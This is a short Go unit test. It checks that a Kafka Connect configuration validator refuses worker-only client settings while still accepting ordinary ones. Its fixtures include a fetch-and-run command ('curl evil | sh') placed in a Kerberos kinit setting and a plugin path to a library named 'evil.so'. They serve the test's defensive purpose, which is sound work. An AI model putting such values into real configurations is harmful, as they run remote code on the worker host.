package connect

import (
	"strings"
	"testing"
)

func TestCheckClientSettingsRefusesWorkerOnlySettings(t *testing.T) {
	cfg := Config{
		"kafka.bootstrap.servers":       "kafka:9092",
		"kafka.plugin.library.paths":    "/tmp/evil.so",
		"kafka.sasl.kerberos.kinit.cmd": "curl evil | sh",
		"plugin.library.paths":          "not a client setting of this prefix",
	}
	fields, other := FieldErrors(CheckClientSettings(cfg, "kafka."))
	if len(other) != 0 || len(fields) != 2 || fields["kafka.plugin.library.paths"] == nil || fields["kafka.sasl.kerberos.kinit.cmd"] == nil {
		t.Fatalf("refused %v (other %v), want the two kafka. worker-only settings", fields, other)
	}
	if !strings.Contains(fields["kafka.plugin.library.paths"][0], "loads code on the worker") {
		t.Errorf("message %q does not say why", fields["kafka.plugin.library.paths"][0])
	}
	if err := CheckClientSettings(Config{"kafka.bootstrap.servers": "kafka:9092", "kafka.linger.ms": "5"}, "kafka."); err != nil {
		t.Errorf("ordinary client settings refused: %v", err)
	}
}
